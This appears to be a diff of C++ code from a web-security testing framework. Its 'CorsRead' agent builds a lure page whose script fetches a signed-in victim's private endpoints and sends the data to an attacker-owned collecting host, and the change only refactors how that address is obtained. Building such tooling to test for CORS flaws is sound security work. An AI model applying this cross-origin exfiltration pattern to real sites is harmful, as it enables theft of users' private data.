@@ -13,10 +13,10 @@ class CorsRead final : public Agent {
         std::vector<OwnHost*> const hosts = foreign_hosts(target);
         if (hosts.empty() || !victim_signs_in(target)) return;
         OwnHost* const first = hosts.front();
-        first->answer(first->folder() + "c", {.status = 204});
+        std::string const address = collecting_address(*first);
         std::string script;
         for (Endpoint const* each : private_endpoints(target))
-            script += fetch_and_send(address_of(target, *each), address_on(*first, "c"));
+            script += fetch_and_send(address_of(target, *each), address);
         std::string const html = "<script>" + script + "</script>";
         for (OwnHost* host : hosts) Lure(target, *host).show(html);
         Lure(target, *first)
